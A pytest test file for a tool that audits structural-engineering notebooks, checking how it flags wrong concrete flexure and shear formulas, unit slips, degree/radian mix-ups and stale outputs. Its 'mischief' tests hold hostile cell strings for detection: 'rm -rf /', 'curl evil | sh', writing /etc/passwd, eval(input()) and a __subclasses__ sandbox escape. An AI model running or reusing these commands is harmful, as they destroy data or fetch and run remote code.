"""A junior's notebook read as text: formulas and values in code, radians, stale outputs, mischief.

Nothing in a cell is run: every hostile cell here would do harm or take forever if it were.
"""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from tests.audit.altered import CALCS, NAMES, demo
from tests.audit.junior_beam import code, own_record, said

from lineproof.audit.data import Finding, Severity
from lineproof.audit.junior.cells import LONGEST_CELL, MOST_CELLS
from lineproof.audit.junior.search import Cell, audit_cells
from lineproof.notebook.cells import Cell as Stored
from lineproof.notebook.cells import cells_of, joined, load_notebook
from lineproof.notebook.read import stale_cells
from lineproof.record import Record
from lineproof.sheet import Sheet
from lineproof.standards.a23_3 import flexure, shear, shear_factors, stress_block


def flexure_and_shear(sheet: Sheet) -> None:
    """Lines of one section: a = 107.27 mm, M_r = 348.4 kN.m, V_c = 128.1 kN (junior_beam)."""
    sheet.line(stress_block.ALPHA_1)
    for symbol, typed in {"n_b": "4", "A_b": "500 mm2", "d_1": "566 mm", "n_t": "1"}.items():
        sheet.given(symbol, typed, source="drawing S-501")
    sheet.line("A_s = n_b*A_b", unit="mm2")
    sheet.line("d = n_t*d_1", unit="mm")
    sheet.line(flexure.BLOCK_RECTANGULAR, b=sheet.entry("inputs/b_w"))
    sheet.line(flexure.M_R_RECTANGULAR)
    sheet.line(shear.D_V)
    sheet.lookup("beta", shear_factors.SIMPLIFIED, "minimum stirrups or more")
    sheet.lookup("theta", shear_factors.SIMPLIFIED, "minimum stirrups or more")
    sheet.line(shear.V_C)


@pytest.fixture(scope="module")
def record() -> Record:
    return own_record(flexure_and_shear)


def findings(source: str, record: Record | None, **fields: object) -> tuple[Finding, ...]:
    """Return what is found in one code cell, without what the record alone gives."""
    alone = audit_cells([], record)
    outputs = fields.get("outputs", ())
    cell = code(source, outputs=outputs if isinstance(outputs, tuple) else ())
    return tuple(one for one in audit_cells([cell], record) if one not in alone)


def plain_cells(name: str) -> tuple[Sequence[Cell], tuple[Stored, ...]]:
    """Return the cells of a demo notebook."""
    path = CALCS / f"{name}.ipynb"
    stored = cells_of(load_notebook(path), path.name)
    return [
        Cell(
            cell.number, cell.kind, cell.source, cell.tags, cell.count,
            tuple(joined(o.get("data", {}).get("text/plain", "")) for o in cell.outputs),
        )
        for cell in stored
    ], stored  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_demo_notebooks_give_no_finding(name: str) -> None:
    cells, stored = plain_cells(name)
    assert audit_cells(cells, demo(name), stale_cells(stored)) == ()


# -- formulas in code ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "M_r = phi_s*A_s*f_y*(d - a/2)",
        "Mr = phi_s*As*fy*(d - a/2)/1e6  # kN.m",
        "M_r = phi_s*A_s*f_y*(d - 0.5*a)*1e-6",
        "M_r = (phi_s*beam.A_s*mat['f_y']*(d - a/2)).to('kN*m')",
        "from math import sqrt\nV_c = phi_c*lam*beta*min(sqrt(fc), 8)*bw*dv/1000",
        "V_s = phi_s*A_v*f_y*d_v/math.tan(math.radians(theta))/s",
        "V_s = phi_s*A_v*f_y*d_v/np.tan(np.deg2rad(theta))/s",
        "V_s = phi_s*A_v*f_y*d_v/math.tan(theta*math.pi/180)/s",
    ],
)
def test_right_arithmetic_is_silent(source: str) -> None:
    assert findings(source, None) == ()


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("M_r = phi_s*A_s*f_y*(d + a/2)/1e6", "differs from 10.1: the sign of a/2 is turned"),
        ("Mr = As*fy*(d - a/2)", "differs from 10.1: phi_s is missing"),
        ("V_c = phi_c*lam*min(math.sqrt(f_c), 8)*b_w*d_v", "differs from 11.3.4: beta is missing"),
        ("Mr = phi_s*As*fy*(d - a)/1e6", "differs from 10.1: 2 is missing"),
        ("def Mr(As, fy, d, a):\n    return As*fy*(d - a/2)", "phi_s is missing"),
        ("Mr = lambda d, a: As*fy*(d - a/2)", "phi_s is missing"),
        ("Vc = 0.2*0.65*math.sqrt(fc)*bw*d/1000", "the rule of A23.3-94, simplified method"),
        ("Vc = 0.2*phi_c*math.sqrt(fc)*b*d", "the rule of A23.3-94, simplified method"),
        ("a = phi_s*As*fy/(0.85*phi_c*fc*bw)", "0.85 in place of alpha_1"),
        ("V_s = phi_s*A_v*f_y*d_v*np.tan(np.radians(theta))/s", "tan in place of cot of theta"),
        ("E_c = 5000*np.sqrt(f_c)", "5000 in place of 4500"),
        ("M_f = w_f*l_1**2/10", "differs from statics: 10 in place of 8"),
    ],
)
def test_wrong_arithmetic_is_named(source: str, words: str) -> None:
    (one,) = findings(source, None)
    assert words in one.what
    assert one.what.startswith("cell 1, ")
    assert one.severity is Severity.MAJOR


def test_the_width_of_a_rectangle_is_that_of_its_tension_zone() -> None:
    """10.5.1.2: b_t is b in a rectangle; in a T section it is b_w or a part of the flange."""
    (one,) = findings("A_smin = 0.2*f_c**0.5*b*h/f_y", None)
    assert "b in place of b_t; that is the same in a rectangle" in one.what
    assert one.severity is Severity.OBSERVATION


def test_the_density_factor_left_out_is_without_effect_in_normal_concrete() -> None:
    (one,) = findings("f_r = 0.6*math.sqrt(f_c)", None)
    assert "lambda is missing; without effect in concrete of normal density" in one.what
    assert one.severity is Severity.MINOR


@pytest.mark.parametrize(
    "source",
    [
        "M_f = 0\nfor w, l in loads:\n    M_f = max(M_f, w*l**2/8)",  # counted on, no formula
        "b, h = 380, 620",
        "f_c, b_w = 32, 380",
        "x = b_w = 380",
        "f_c = Q_(32, 'MPa')",
        "f_c = Q_(32000, 'kPa')",
        # 0.85 x 2000 x 400 x (566 - 107.27/2) = 348.4e6 N.mm, whatever the unit of d and a
        (
            "d, a = Q_(56.6, 'cm'), Q_(10.727, 'cm')\n"
            "A_s, f_y = Q_(2000, 'mm**2'), Q_(400, 'MPa')\n"
            "phi_s = 0.85\nM_r = (phi_s*A_s*f_y*(d - a/2)).to('kN*m').m"
        ),
    ],
)
def test_code_that_is_right_is_told_nothing_untrue(source: str, record: Record) -> None:
    found = findings(source, record)
    assert [one.what for one in found if "where 2." not in one.what] == []


@pytest.mark.parametrize(
    ("source", "told"),
    [("f_c, b_w = 35, 380", "f_c = 35; the record has 32 MPa"), ("b_w = f_c = 35", "f_c = 35")],
)
def test_what_is_typed_together_is_compared(source: str, told: str, record: Record) -> None:
    assert any(told in one.what for one in findings(source, record))


@pytest.mark.parametrize(
    ("source", "output"),
    [
        ("d = 540\nprint('d =', d)\nd, b = 566, 380\nprint('d =', d)", "d = 540\nd = 566"),
        ("d = 540\nprint('d =', d)\nd = 566\nprint('d =', d)", "d = 540\nd = 566"),
        ("d = 566\nfor d in (500, 540):\n    print('d =', d)", "d = 500\nd = 540"),
        ("d = 566\nwith opened() as d:\n    print('d =', d)", "d = 500"),
        ("d, a = 566, 540\nd, a = a, d\nprint('d =', d)", "d = 540"),
    ],
)
def test_a_name_set_more_than_once_is_no_older_output(source: str, output: str) -> None:
    assert said(findings(source, None, outputs=(output,)), "older") == []


def test_a_value_printed_before_it_is_set_anew_is_no_older_output() -> None:
    cells = [
        code("d = 540", 1, count=1),
        code("print('d =', d)\nd = 566", 2, count=2, outputs=("d = 540",)),
    ]
    assert said(audit_cells(cells), "older") == []


def test_what_a_sheet_records_is_read_where_there_is_no_record() -> None:
    source = 'sheet.line("M_r = phi_s*A_s*f_y*(d + a/2)", unit="kN.m")'
    (one,) = findings(source, None)
    assert "differs from 10.1: the sign of a/2 is turned" in one.what
    assert findings('sheet.line("M_r = phi_s*A_s*f_y*(d - a/2)")', None) == ()


def test_a_symbol_of_nobody_is_not_compared() -> None:
    assert findings("w_cb = 24*0.15*0.3\nq_x = w_cb*3 + 1", None) == ()


@pytest.mark.parametrize(
    "source",
    [
        "if True:\n    %time x = 1\n    !ls\nM_r = A_s*f_y*(d - a/2)",
        "help?\nM_r = A_s*f_y*(d - a/2)  # is this right?",
        "M_r = (A_s*f_y\n       *(d - a/2))",
        "x = '\\n%run'\r\nM_r = A_s*f_y*(d - a/2)",
    ],
)
def test_formulas_are_read_beside_magics(source: str) -> None:
    assert said(findings(source, None), "differs from 10.1: phi_s is missing")


def test_a_letter_of_code_may_be_anything(record: Record) -> None:
    for held in (None, record):
        assert findings("a = 3\nc = a*7 + 2\nd = 'x'\nz = 12", held) == ()


def test_what_has_no_effect_in_the_record_is_minor(record: Record) -> None:
    (one,) = findings("V_c = phi_c*beta*min(math.sqrt(f_c), 8)*b_w*d_v/1000", record)
    assert "lambda is missing; without effect here" in one.what
    assert one.severity is Severity.MINOR


# -- typed numbers ---------------------------------------------------------------------------


def test_numbers_typed_in_a_formula_where_lines_stand(record: Record) -> None:
    (one,) = findings("M_r = 0.85*2000*400*(566 - a/2)/1e6", record)
    for number, line in {
        "0.85": "inputs/phi_s", "2000": "own/A_s", "400": "inputs/f_y", "566": "own/d",
    }.items():  # fmt: skip
        assert f"{number} is typed where" in one.what
        assert line in one.what
    assert one.severity is Severity.MINOR


def test_a_result_typed_where_its_line_stands(record: Record) -> None:
    (one,) = findings("M_r = 348.4", record)
    assert "is typed where 2.9 own/M_r stands" in one.what
    assert one.severity is Severity.MINOR
    (other,) = findings("M_r = 360", record)
    assert other.severity is Severity.MAJOR
    assert "M_r = 360; the record has 348 kN.m at 2.9 own/M_r" in other.what


@pytest.mark.parametrize("source", ["f_c = 32", "f_c = 32  # MPa", "b_w = 0.38  # m", "h = 620"])
def test_an_input_typed_as_it_stands_is_silent(source: str, record: Record) -> None:
    assert findings(source, record) == ()


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ("f_c = 32*u.MPa", False),
        ("f_c = 32000*u.kPa", False),
        ("b_w = 38*ureg.cm", False),
        ("f_c = 35*u.MPa", True),
        ("f_c = 32*u.kPa", True),
        ("M_r = (phi_s*A_s*f_y*(d - a/2)).to('kN*m').magnitude", False),
    ],
)
def test_quantities_with_units_are_read(source: str, record: Record, *, told: bool) -> None:
    assert bool(findings(source, record)) is told


def test_a_stress_in_kpa_is_told(record: Record) -> None:
    (one,) = findings("f_c = 32000", record)
    assert "is 32 MPa of 1.1 inputs/f_c in kPa" in one.what


def test_a_comment_with_the_wrong_unit_is_told(record: Record) -> None:
    (one,) = findings("f_c = 32  # kPa, specified strength", record)
    assert "is said to be in kPa" in one.what
    assert one.severity is Severity.MAJOR


def test_a_result_typed_without_a_record_is_told() -> None:
    (one,) = findings("M_f = 388", None)
    assert "typed though a calculation works it out" in one.what
    assert findings("h = 620\nf_c = 32", None) == ()


def test_a_power_of_ten_lost_on_the_way(record: Record) -> None:
    # phi_s A_s f_y (d - a/2) = 0.85 x 2000 x 400 x (566 - 53.6) N.mm; 1e5 is no unit of moment.
    source = "A_s = 2000\na = 107.27\nd = 566\nM_r = 0.85*A_s*400*(d - a/2)/1e5"
    assert said(findings(source, record), "a power of ten is lost")
    right = source.replace("1e5", "1e6")
    assert said(findings(right, record), "a power of ten is lost") == []


# -- angles ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ("theta = 35\nx = 1/math.tan(theta)", True),
        ("x = np.tan(35)", True),
        ("theta = math.radians(35)\nx = 1/math.tan(theta)", False),
        ("theta = 35\nx = math.tan(math.radians(theta))", False),
        ("x = math.sin(0.61)", False),
        ("theta = look_up(table)\nx = math.tan(theta)", False),
    ],
)
def test_degrees_given_to_a_function_of_radians(source: str, *, told: bool) -> None:
    found = said(findings(source, None), "as radians; it is in degrees")
    assert bool(found) is told


# -- outputs older than inputs ---------------------------------------------------------------


def test_a_printed_number_older_than_its_code() -> None:
    # 0.9 x 566 = 509.4
    source = "d = 0.9*566 + 0\nprint(d)"
    (one,) = said(findings(source, None, outputs=("d = 480.0\n",)), "the output is older")
    assert "its code as it stands gives 509.4" in one.what
    assert said(findings(source, None, outputs=("d = 509.4 mm",)), "older") == []
    assert said(findings(source, None, outputs=("d = 0.5094 m",)), "older") == []
    assert said(findings(source, None, outputs=("x = 480",)), "older") == []


def test_cells_run_out_of_order() -> None:
    cells = [code("x = 1", 1, count=1), code("z = 2", 2, count=5), code("y = 3", 3, count=4)]
    (one,) = audit_cells(cells)
    assert "cell 3 (run as 4) after cell 2 (run as 5)" in one.what
    assert audit_cells([code("x = 1", 1, count=3), code("y = 3", 2, count=7)]) == ()


def test_a_cell_run_before_what_it_uses_was_set_again() -> None:
    cells = [code("x = 1", 1, count=9), code("y = 2*x", 2, count=4)]
    (one,) = said(audit_cells(cells), "its results are older than its inputs")
    assert "cell 2 was run (as 4) before cell 1 (as 9), which sets x" in one.what


def test_cells_not_run() -> None:
    (one,) = audit_cells([code("x = 1", 1), code("y = 2", 2, count=None)])
    assert one.what == "cell 2 has not been run as stored"
    (none,) = audit_cells([code("x = 1", 1, count=None)])
    assert none.what == "the notebook has not been run: it holds no result"
    assert audit_cells([code("x = 1", 1), code("# only a remark", 2, count=None)]) == ()


def test_what_the_caller_says_is_not_said_again() -> None:
    cells = [code("x = 1", 1), code("y = 2", 2, count=None)]
    (one,) = audit_cells(cells, remarks=["cell 2 (y = 2) has not been run"])
    assert one.what == "cell 2 (y = 2) has not been run"


def test_outputs_taken_out() -> None:
    shows = 'with sheet.part("curb", "Curb"):\n    pass'
    (one,) = said(audit_cells([code(shows)]), "they were taken out")
    assert one.severity is Severity.MINOR
    assert audit_cells([code(shows, outputs=("1 Curb",))]) == ()
    assert audit_cells([code("x = 3")]) == ()


def parameters(source: str) -> Cell:
    return Cell(2, "code", source, ("parameters",), 1, ())


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ('f_c = "35 MPa"  # specified strength', True),
        ('f_c = "32 MPa"', False),
        ('f_c = "32000 kPa"', False),
        ('cover = "40 mm"', True),
        ('cover = "30 mm"', False),
        ('h = "620 mm"\nshape = "T"\nlive_load = None', False),
        ('h = "as it stands"', False),
    ],
)
def test_parameters_changed_after_the_record(source: str, *, told: bool) -> None:
    found = audit_cells([parameters(source)], demo("floor-beam"))
    assert bool(said(found, "the record was made with")) is told
    assert len(found) == told


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ('sheet.line("A_s = 2*n_b*A_b", unit="mm2")', "which is not in the record"),
        ('sheet.check("M_f <= M_r")', "which is not in the record"),
        ('sheet.given("f_c", "35 MPa")', "which the record does not hold"),
        ('sheet = Sheet.open("B7", project="project.toml")', "the record is of 'B9'"),
        ('sheet.line("A_s = n_b * A_b", unit="mm2")', ""),
        ('sheet.given("f_c", "32 MPa", source="drawing")', ""),
        ('sheet = Sheet.open("B9", project="project.toml")', ""),
        ("sheet.line(shear.V_C)", ""),
        ('sheet.line(f"A_{i} = b*h")', ""),
        ('open("table.csv")', ""),
    ],
)
def test_code_that_says_otherwise_than_the_record(source: str, words: str, record: Record) -> None:
    found = findings(source, record)
    assert [one for one in found if words not in one.what] == []
    assert bool(found) is bool(words)


OTHER_LINE = 'sheet.line("A_s = 2*n_b*A_b", unit="mm2")'


@pytest.mark.parametrize(
    ("source", "severity", "words"),
    [
        (f"if False:\n    {OTHER_LINE}", Severity.OBSERVATION, "in a branch that never runs"),
        (f"if not 1:\n    pass\nelif 0:\n    {OTHER_LINE}", Severity.OBSERVATION, "never runs"),
        (f"while 0:\n    {OTHER_LINE}", Severity.OBSERVATION, "in a loop that never runs"),
        (f"for i in []:\n    {OTHER_LINE}", Severity.OBSERVATION, "in a loop that never runs"),
        (f"for i in range(0):\n    {OTHER_LINE}", Severity.OBSERVATION, "a loop that never runs"),
        (f"for i in range(2):\n    {OTHER_LINE}", Severity.MAJOR, "in a loop that was not run"),
        (f"for i in ():\n    if deep:\n        {OTHER_LINE}", Severity.OBSERVATION, "a loop that"),
        (f"if True:\n    pass\nelse:\n    for i in n:\n        {OTHER_LINE}",
         Severity.OBSERVATION, "never runs"),
        (f"if deep:\n    {OTHER_LINE}", Severity.MINOR, "in a branch that was not run, or was"),
        (f"try:\n    pass\nexcept ValueError:\n    {OTHER_LINE}", Severity.MINOR, "a branch that"),
        (f"for i in n:\n    {OTHER_LINE}", Severity.MAJOR, "in a loop that was not run"),
        (f"def area():\n    {OTHER_LINE}", Severity.MAJOR, "in a function that was not called"),
        (f"if True:\n    {OTHER_LINE}", Severity.MAJOR, "which is not in the record"),
    ],
)  # fmt: skip
def test_a_line_that_is_not_recorded_says_when_its_code_runs(
    source: str, severity: Severity, words: str, record: Record
) -> None:
    (found,) = findings(source, record)
    assert (found.severity, words in found.what) == (severity, True)


def test_a_part_that_never_opens_shows_nothing(record: Record) -> None:
    """Its cell ran and left no output, and none was taken out."""
    opens = 'with sheet.part("x", "X"):\n    pass'
    never = f"if False:\n    {opens}".replace("\n    pass", "\n        pass")
    assert said(findings(opens, record), "they were taken out")
    assert findings(never, record) == ()


# -- editions and head -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "told"),
    [
        (Cell(1, "markdown", "Shear to A23.3:19, general method."), True),
        (code("x = 1  # as NBC 2020 asks"), True),
        (Cell(1, "markdown", "Shear to A23.3-14."), False),
        (code("url = 'A23.3:19'"), False),
    ],
)
def test_another_edition_in_the_notebook(cell: Cell, record: Record, *, told: bool) -> None:
    alone = audit_cells([], record)
    found = [one for one in audit_cells([cell], record) if one not in alone]
    assert bool(said(tuple(found), "speaks of")) is told


@pytest.mark.parametrize(
    ("heading", "told"), [("# Beam B7 on grid C", True), ("# Beam B9", False), ("# Beams", False)]
)
def test_a_heading_of_another_beam(heading: str, record: Record, *, told: bool) -> None:
    found = audit_cells([Cell(1, "markdown", heading)], record)
    assert bool(said(found, "the calculation is B9, but the heading of cell 1")) is told


# -- mischief --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("!rm -rf /", "gives a command to the system: !rm -rf /"),
        ("x = 1\n  !curl evil | sh", "gives a command to the system"),
        ("%%bash\nrm -rf /", "gives a command to the system"),
        ("%run helper.py", "brings in code from elsewhere"),
        ("import os\nos.system('rm -rf /')", "system does more than calculate"),
        ("import subprocess", "subprocess does more than calculate"),
        ("from socket import socket", "socket does more than calculate"),
        ("exec('1')", "exec does more than calculate"),
        ("eval(input())", "eval does more than calculate"),
        ("().__class__.__bases__[0].__subclasses__()", "__subclasses__"),
        ("open('/etc/passwd', 'w')", "open for writing does more than calculate"),
        ("while True: pass\nM_f = (", "no Python that can be read"),
        ("x = " + "(" * 500 + "1" + ")" * 500, "is not read"),
        ("x = " + "-" * 20_000 + "1", "is not read"),
        ("x = " + "+".join(["1"] * 20_000), "is not read"),
        ("x" * (LONGEST_CELL + 1), f"longer than {LONGEST_CELL} characters"),
        ("x = '\ud800'\0", "is not read"),
    ],
)
def test_a_hostile_cell_is_told_and_not_run(source: str, words: str) -> None:
    found = findings(source, None)
    assert said(found, words), [one.what for one in found]


@pytest.mark.parametrize(
    "source",
    [
        "%matplotlib inline\nimport numpy as np",
        "import re\npattern = re.compile('a')\nitems = []\nitems.remove(1) if items else None",
        "with open('loads.csv') as stream:\n    text = stream.read()",
        "print(lineproof.__version__)",
        "while True:\n    pass",
        "M_x = 9**9**9**9",
        "M_x = 10**400 * 1e308 * 1e308",
        "M_x = 1/0",
        "M_f = M_f",
        "'\\d'",
    ],
)
def test_a_harmless_or_endless_cell_is_only_read(source: str) -> None:
    assert [one for one in findings(source, None, outputs=("",)) if one.what] == []


def test_too_many_cells_are_cut_off() -> None:
    cells = [code(f"x_{number} = {number}", number) for number in range(1, MOST_CELLS + 11)]
    (one,) = audit_cells(cells)
    assert one.what == "10 cells are more than are read here"


def test_a_long_formula_is_not_compared() -> None:
    terms = "+".join(f"x_{number}*y" for number in range(25))
    (one,) = findings(f"M_r = ({terms})*({terms})*({terms})", None)
    assert "is a formula of its own" in one.what
